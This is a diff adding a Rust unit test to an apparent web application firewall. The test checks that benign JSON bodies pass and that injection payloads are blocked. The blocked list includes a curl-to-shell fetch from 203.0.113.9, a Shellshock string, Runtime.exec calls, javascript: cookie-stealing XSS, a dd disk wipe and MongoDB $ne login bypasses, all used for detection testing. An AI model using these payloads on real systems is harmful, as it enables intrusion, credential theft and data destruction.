@@ -888,3 +888,61 @@ fn configuration_and_sql_script_shapes() {
     assert!(context::sql_breakout(b"1;\nupdate t set a = 1"));
     assert!(context::sql_breakout(b"update t set a = 1; drop table t"));
 }
+
+#[test]
+fn holdout7_classes_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    for body in [
+        // Placeholders set in text (i18n, templates, CI variables): names, not code.
+        r##"{"footer": "© ${year} ${company}. All rights reserved."}"##,
+        r##"{"msg": "Your invoice of ${amount} is due on ${date, date, long}."}"##,
+        r##"{"run": "helm upgrade --install web ./chart --set image.tag=${GIT_SHA}"}"##,
+        // Enumerations in a citation are not a variable call.
+        r##"{"cite": "26 U.S.C. § 501(c)(3)"}"##,
+        // An anonymous function in code whose body is not closed by `};`.
+        r##"{"html": "<pre><code>add_action('init', function () {\n    register_post_type('book');\n});</code></pre>"}"##,
+        // A class name ending a sentence.
+        r##"{"body": "It is only used at build time, not at runtime. Upgrade anyway."}"##,
+        // A script scheme followed by words only.
+        r##"{"q": "javascript: the definitive guide"}"##,
+        // A user's folder that starts a path.
+        r##"{"hint": "Saved to %USERPROFILE%\\Downloads\\exports"}"##,
+        // A program named by its path, with options; a script discarding output to /dev/null.
+        r##"{"command": "/opt/tools/bin/prune --keep 7 --dir /srv/app/tmp"}"##,
+        r##"{"answer": "find . -name '*.log' -mtime +7 -delete 2>/dev/null"}"##,
+        // Variables of a PowerShell snippet named like MongoDB operators.
+        r##"{"code": "Get-ChildItem -Path C:\\Logs |\n  ForEach-Object {\n    $size = $_.Length / 1MB\n    $type = $_.Extension\n  }\n"}"##,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(!o.blocked, "{body}: {o:?}");
+    }
+    for body in [
+        r##"{"q": "${system('id')}"}"##,
+        r##"{"q": "${cmd}"}"##,
+        r##"{"q": "${SHELL} -c \"id\""}"##,
+        r##"{"q": "a=c${x}url http://203.0.113.9"}"##,
+        r##"{"q": "x ${f}(1)"}"##,
+        r##"{"q": "[].sort.call` ${alert} 1`"}"##,
+        r##"{"q": "define('x', 'sys' . 'tem');(x)('uname');"}"##,
+        r##"{"q": "(system)(id)"}"##,
+        r##"{"q": "Title. After something () { :;}; /bin/bash -c id"}"##,
+        r##"{"q": "() { _; } ; id"}"##,
+        r##"{"q": "java.lang.Runtime.getRuntime().exec('id')"}"##,
+        r##"{"q": "x Runtime. exec('id')"}"##,
+        r##"{"q": "javascript:alert(1)"}"##,
+        r##"{"q": "javascript: alert(document.cookie)"}"##,
+        r##"{"q": "%COMSPEC% /c whoami"}"##,
+        r##"{"q": "%APPDATA%"}"##,
+        r##"{"q": "dd if=/dev/zero of=/dev/sda bs=1M"}"##,
+        r##"{"q": "/usr/bin/curl -s http://203.0.113.9/a.sh | sh"}"##,
+        r##"{"user": {"$ne": null}}"##,
+        r##"{"filter": "{\n  \"username\": {\"$ne\": null},\n  \"password\": {\"$ne\": null}\n}"}"##,
+        r##"{"q": "$where"}"##,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(o.blocked, "{body}: {o:?}");
+    }
+    assert!(context::script_uri_words(b"javascript: the good parts"));
+    assert!(!context::script_uri_words(b"v\nb\ts\nc\nr\ti\tp\nt:: a b"));
+    assert!(!context::script_uri_words(b"javascript:alert document cookie"));
+}
